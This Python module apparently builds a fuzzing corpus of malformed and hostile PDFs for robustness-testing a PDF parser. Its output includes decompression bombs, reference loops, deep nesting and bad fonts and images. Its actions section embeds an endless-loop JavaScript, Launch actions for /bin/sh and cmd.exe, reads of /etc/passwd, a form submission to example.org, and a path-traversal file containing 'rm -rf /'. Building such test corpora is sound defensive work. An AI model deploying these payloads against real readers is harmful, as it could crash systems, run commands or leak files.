# SPDX-License-Identifier: GPL-3.0-or-later
"""PDFs as a bad disk, a bad program or a bad person makes them. All from a seed."""
import random
import re
import zlib

MEBI = 1 << 20
WHOLE = 1000  # documents; a smaller run leaves out what takes long


def pdf(objects, root=1, trailer=b""):
    """A PDF of numbered bodies with a right cross-reference table."""
    out = bytearray(b"%PDF-1.7\n")
    places = {}
    for number in sorted(objects):
        places[number] = len(out)
        out += b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n"
    size = max(objects) + 1
    table = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += b"%010d 00000 n \n" % places[number] if number in places else b"0000000000 65535 f \n"
    out += b"trailer << /Size %d /Root %d 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (size, root, trailer, table)
    return bytes(out)


def stream(content, entries=b""):
    return b"<< /Length %d %s >>\nstream\n" % (len(content), entries) + content + b"\nendstream"


def page(content=b"BT /F 12 Tf 50 700 Td (Mira Okaduwe) Tj ET", resources=b"", extra=b"", box=b"[0 0 595 842]",
         catalog=b"", more=None, packed=None):
    """A document of one page; `packed` is a content stream's whole body instead of `content`."""
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog,
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox %s /Contents 4 0 R /Resources << /Font << /F 5 0 R >> %s >> %s >>"
           % (box, resources, extra),
        4: packed or stream(content),
        5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    }
    objects.update(more or {})
    return pdf(objects)


def deflated(piece, times):
    """`piece` over and over, packed, without ever being whole in memory."""
    packer = zlib.compressobj(1)
    block = piece * max(1, MEBI // len(piece))
    out = bytearray()
    for _ in range(max(1, times * len(piece) // len(block))):
        out += packer.compress(block)
    return bytes(out + packer.flush())


# What is done to a good document.

def truncated(data, chance):
    return data[:chance.randrange(1, max(2, len(data) // 64)) * 64]


def bits_flipped(data, chance):
    changed = bytearray(data)
    for _ in range(chance.choice((1, 4, 32, 256))):
        changed[chance.randrange(len(changed))] ^= 1 << chance.randrange(8)
    return bytes(changed)


def bytes_dropped(data, chance):
    at = chance.randrange(len(data))
    return data[:at] + data[at + chance.randrange(1, 4096):]


def noise_inside(data, chance):
    at = chance.randrange(len(data))
    noise = chance.randbytes(chance.randrange(1, 2048))
    return data[:at] + noise + data[at + len(noise):]


def numbers_changed(data, chance):
    """Lengths, counts, places and sizes that are not true."""
    found = list(re.finditer(rb"(?<=[ \[])\d+(?=[ \]\r\n/>])", data))
    changed = data
    for match in sorted(chance.sample(found, min(len(found), 6)), key=lambda m: -m.start()):
        wrong = chance.choice((b"-1", b"0", b"2147483647", b"4294967296", b"99999999999999999999", b"1e30"))
        changed = changed[:match.start()] + wrong + changed[match.end():]
    return changed


def objects_swapped(data, chance):
    found = list(re.finditer(rb"(\d+) 0 (obj|R)\b", data))
    if len(found) < 2:
        return data[::-1]
    changed = data
    for _ in range(4):
        one, other = sorted(chance.sample(found, 2), key=lambda m: m.start())
        if len(one[1]) == len(other[1]):
            changed = (changed[:one.start()] + other[1] + changed[one.start() + len(one[1]):other.start()] + one[1]
                       + changed[other.start() + len(other[1]):])
    return changed


DAMAGES = (truncated, bits_flipped, bytes_dropped, noise_inside, numbers_changed, objects_swapped)
QUICK = {damage.__name__ for damage in DAMAGES} | {"loops", "actions"}


# What is made to harm.

def loops():
    good = page()
    start = good.rindex(b"startxref")
    table = int(good[start + 10:].split()[0])
    yield good[:start].replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % table) + good[start:]
    yield good[:start] + b"startxref\n%d\n%%%%EOF\n" % start
    kids = {1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>"}
    yield pdf(kids)
    yield pdf(kids | {2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                      3: b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>"})
    yield pdf(kids | {2: b"<< /Type /Pages /Kids [2 0 R] /Count 1999 >>"})
    deep = {n: b"<< /Type /Pages /Parent %d 0 R /Kids [%d 0 R] /Count 1 >>" % (n - 1, n + 1) for n in range(3, 5003)}
    yield pdf(kids | deep | {2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"})
    yield page(more={4: b"<< /Length 4 0 R >>\nstream\nx\nendstream"})
    yield page(catalog=b"/Outlines 6 0 R", more={6: b"<< /First 7 0 R /Last 7 0 R >>",
                                                7: b"<< /Title (x) /Next 7 0 R /First 7 0 R /Parent 6 0 R >>"})
    yield page(b"/X Do", b"/XObject << /X 6 0 R >>",
               more={6: stream(b"/X Do", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>")})
    yield page(extra=b"/Annots 3 0 R")
    yield page(more={5: b"5 0 R"})
    yield page(more={5: b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1 1] /FontMatrix [1 0 0 1 0 0] /FirstChar 77 /LastChar 77 "
                        b"/Widths [1] /Encoding << /Differences [77 /M] >> /CharProcs << /M 6 0 R >> /Resources << /Font << /F 5 0 R >> >> >>",
                     6: stream(b"BT /F 12 Tf (M) Tj ET")})


def nesting():
    for opening, closing in ((b"[", b"]"), (b"<< /A ", b">>"), (b"[<< /A ", b">>]")):
        for depth in (10_000, 200_000):
            body = opening * depth + b"1" + closing * depth
            yield page(more={5: body})
            yield page(body + b" pop BT /F 12 Tf (x) Tj ET")
    yield page(b"q " * 500_000)
    yield page(b"/A BMC " * 500_000)
    yield page(b"BT " * 500_000)


def bombs():
    once = deflated(b"0", 1024 * MEBI)
    yield page(packed=stream(once, b"/Filter /FlateDecode"))
    twice = zlib.compress(once, 9)
    yield page(packed=stream(twice, b"/Filter [/FlateDecode /FlateDecode]"))
    yield page(more={5: b"<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding /Identity-H /ToUnicode 6 0 R /DescendantFonts [7 0 R] >>",
                     6: stream(twice, b"/Filter [/FlateDecode /FlateDecode]"),
                     7: b"<< /Type /Font /Subtype /CIDFontType2 /BaseFont /X /CIDSystemInfo << /Registry (Adobe) /Ordering (Identity) /Supplement 0 >> >>"})
    image = b"/Type /XObject /Subtype /Image /Width 100000 /Height 100000 /BitsPerComponent 8 /ColorSpace /DeviceGray"
    yield page(b"q 500 0 0 500 0 0 cm /I Do Q", b"/XObject << /I 6 0 R >>",
               more={6: stream(once, image + b" /Filter /FlateDecode")})
    yield page(packed=stream(deflated(b"BT /F 12 Tf 1 0 0 1 50 700 Tm (Mira) Tj ET ", 5_000_000), b"/Filter /FlateDecode"))
    laughs = {n: stream(b"/X Do " * 10, b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << /X %d 0 R >> >>" % (n + 1))
              for n in range(10, 40)}
    yield page(b"/X Do", b"/XObject << /X 10 0 R >>", more=laughs)


def boxes():
    for box in (b"[0 0 1000000000 1000000000]", b"[0 0 0 0]", b"[0 0 1e300 1e300]", b"[-2147483648 -2147483648 2147483647 2147483647]",
                b"[595 842 0 0]", b"[0 0 0.0001 0.0001]", b"[]", b"[/a /b /c /d]", b"[0 0 200000 3]", b"3 0 R"):
        yield page(box=box)
        yield page(b"0 0 300 300 re f", box=box)
    yield page(extra=b"/UserUnit 1000000")
    yield page(extra=b"/Rotate 1000000007")
    yield page(extra=b"/CropBox [900 900 901 901]")


def paths():
    for points in (1_000_000, 30_000_000):
        yield page(packed=stream(b"" + deflated(b"1 1 l 9 700 l ", points), b"/Filter /FlateDecode"))
    twice = zlib.compress(deflated(b"300 700 l 1 1 l\n", 500_000_000 // 8), 9)
    yield page(packed=stream(twice, b"/Filter [/FlateDecode /FlateDecode]"))
    yield page(b"[0.0001] 0 d 0 0 m 595 842 l S " * 50)
    yield page(b"100000 w 0 0 m " + b"1e30 1e30 l -1e30 1e30 l " * 5000 + b"S f*")
    yield page(b"/P gs /Pattern cs /X scn 0 0 595 842 re f",
               b"/Pattern << /X 6 0 R >>",
               more={6: stream(b"0 0 1 1 re f", b"/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep 0.001 /YStep 0.001 /Resources << >>")})
    yield page(b"/S sh", b"/Shading << /S << /ShadingType 1 /ColorSpace /DeviceGray /Domain [0 1e9 0 1e9] /Function << /FunctionType 4 "
                         b"/Domain [0 1 0 1] /Range [0 1] /Length 0 >> >> >>")


def actions():
    script = b"<< /S /JavaScript /JS (app.alert\\(1\\); while\\(true\\){}) >>"
    for action in (script, b"<< /S /Launch /F (/bin/sh) >>", b"<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>",
                   b"<< /S /URI /URI (https://example.org/track) >>", b"<< /S /URI /URI (file:///etc/passwd) >>",
                   b"<< /S /GoToR /F (\\\\\\\\example.org\\\\share\\\\x.pdf) /D [0 /Fit] >>", b"<< /S /SubmitForm /F (https://example.org/) >>",
                   b"<< /S /ImportData /F (/etc/passwd) >>", b"<< /S /GoTo /D [999999 /Fit] /Next 6 0 R >>"):
        yield page(catalog=b"/OpenAction " + action)
        yield page(extra=b"/AA << /O %s >> /Annots [<< /Subtype /Link /Rect [0 0 500 800] /A %s >>]" % (action, action), more={6: action})
    yield page(catalog=b"/Names << /EmbeddedFiles << /Names [(x) 6 0 R] >> /JavaScript << /Names [(a) 8 0 R] >> >>",
               more={6: b"<< /Type /Filespec /F (../../evil.sh) /EF << /F 7 0 R >> >>", 7: stream(b"rm -rf /", b"/Type /EmbeddedFile"),
                     8: script})
    yield page(catalog=b"/AcroForm << /Fields [] /XFA 6 0 R >>", more={6: stream(b"<xdp><script>" * 10_000)})
    yield page(packed=b"<< /Length 0 /F (/etc/passwd) >>\nstream\n\nendstream")
    yield page(extra=b"/Annots [" + b"<< /Subtype /Link /Rect [0 0 5 8] /A << /S /URI /URI (https://example.org/) >> >> " * 50_000 + b"]")


def fonts(chance):
    for key, subtype in ((b"FontFile", b"Type1"), (b"FontFile2", b"TrueType"), (b"FontFile3", b"Type1")):
        for size in (0, 1, 12, 5000, 300_000):
            body = (b"\0\1\0\0\0\x10" if key == b"FontFile2" else b"%!PS-AdobeFont-1.0: X\n" if key == b"FontFile" else b"\1\0\4\4") + chance.randbytes(size)
            yield page(more={5: b"<< /Type /Font /Subtype /%s /BaseFont /ABCDEF+X /FirstChar 0 /LastChar 255 /Widths [%s] /FontDescriptor 6 0 R >>"
                             % (subtype, b"500 " * 256),
                             6: b"<< /Type /FontDescriptor /FontName /ABCDEF+X /Flags 4 /FontBBox [0 0 1000 1000] /%s 7 0 R >>" % key,
                             7: stream(body, b"/Subtype /Type1C /Length1 %d" % len(body))})
    for cmap in (b"begincmap " + b"<00> <ffffffff> <0000> endbfrange " * 1000, b"1 beginbfrange <0000> <ffff> <d800> endbfrange",
                 b"/usecmap 6 0 R usecmap", chance.randbytes(50_000), b"begincodespacerange <00> <ff> " * 100_000):
        yield page(more={5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /ToUnicode 6 0 R >>", 6: stream(cmap)})
    yield page(more={5: b"<< /Type /Font /Subtype /Type1 /BaseFont /X /FirstChar -5 /LastChar 999999999 /Widths [1] >>"})
    yield page(more={5: b"<< /Type /Font /Subtype /Type1 /BaseFont /X /Encoding << /Differences [" + b"1 /a " * 200_000 + b"] >> >>"})


def images(chance):
    """No text, so that the page is read by OCR and its image really decoded."""
    for name, body in ((b"/JPXDecode", b"\0\0\0\x0cjP  \r\n\x87\n" + chance.randbytes(4000)), (b"/DCTDecode", b"\xff\xd8\xff\xe0" + chance.randbytes(4000)),
                       (b"/JBIG2Decode", chance.randbytes(4000)), (b"/CCITTFaxDecode", chance.randbytes(4000)), (b"/LZWDecode", chance.randbytes(4000)),
                       (b"/RunLengthDecode", chance.randbytes(4000)), (b"/ASCII85Decode", b"z" * 100_000)):
        for size in (b"/Width 1000 /Height 1000", b"/Width 2147483647 /Height 2147483647", b"/Width -1 /Height 0"):
            yield page(b"q 595 0 0 842 0 0 cm /I Do Q", b"/XObject << /I 6 0 R >>",
                       more={6: stream(body, b"/Type /XObject /Subtype /Image /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter %s %s" % (name, size))})
    noise = zlib.compress(chance.randbytes(1600 * 1100), 1)
    yield page(b"q 595 0 0 842 0 0 cm /I Do Q", b"/XObject << /I 6 0 R >>",
               more={6: stream(noise, b"/Type /XObject /Subtype /Image /BitsPerComponent 8 /ColorSpace /DeviceGray /Width 1100 /Height 1600 /Filter /FlateDecode")})


def locked(chance):
    for entries in (b"/Filter /Standard /V 1 /R 2 /O (x) /U (y) /P -1", b"/Filter /Standard /V 5 /R 6 /Length 999999 /O () /U ()",
                    b"/Filter /Nonsense", b"/Filter /Standard /V 4 /R 4 /CF << /StdCF << /CFM /AESV2 /Length -1 >> >> /StmF /StdCF /StrF /StdCF"):
        yield pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [] /Count 0 >>"},
                  trailer=b"/Encrypt << %s >> /ID [(a) (b)]" % entries)
    for size in (0, 1, 5, 9, 1024):
        yield b"%PDF-1.7\n"[:size] + chance.randbytes(max(0, size - 9))


def made(chance, whole):
    """Kind and bytes of every document that is made to harm; those that take long only if wanted."""
    long = (("bombs", bombs()), ("paths", paths()))
    for kind, documents in (("loops", loops()), ("nesting", nesting()), ("boxes", boxes()), ("actions", actions()),
                            ("fonts", fonts(chance)), ("images", images(chance)), ("locked", locked(chance)), *(long if whole else ())):
        for content in documents:
            yield kind, content


def write(folder, samples, count, seed):
    """About `count` documents, at least one of each kind; file name → kind."""
    chance = random.Random(seed)
    kinds = {}

    def keep(kind, content):
        name = f"{kind}-{len(kinds):05}.pdf"
        (folder / name).write_bytes(content)
        kinds[name] = kind

    whole = count >= WHOLE
    for kind, content in made(chance, whole):
        # A small run takes a part of them, another one with another seed.
        if whole or chance.random() < count / 600:
            keep(kind, content)
    good = [path.read_bytes() for path in samples]
    while len(kinds) < count:
        damage = DAMAGES[len(kinds) % len(DAMAGES)]
        data = chance.choice(good)
        for _ in range(chance.choice((1, 1, 1, 2))):
            data = damage(data, chance)
        keep(damage.__name__, data)
    return kinds
